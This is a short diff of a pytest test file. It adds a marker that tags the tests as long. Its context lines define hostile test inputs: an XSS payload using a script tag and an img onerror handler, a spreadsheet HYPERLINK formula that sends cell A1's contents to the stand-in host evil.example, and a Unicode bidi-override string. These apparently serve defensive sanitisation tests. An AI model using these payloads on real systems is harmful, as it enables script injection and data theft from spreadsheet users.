@@ -13,6 +13,8 @@ import pytest
 from tests.generator import generate
 from tests.run.line import ROOT, snakemake, study_folder
 
+pytestmark = pytest.mark.long
+
 SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 2'>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 TURNED = "5 \u202e001 fo\u202c 7"
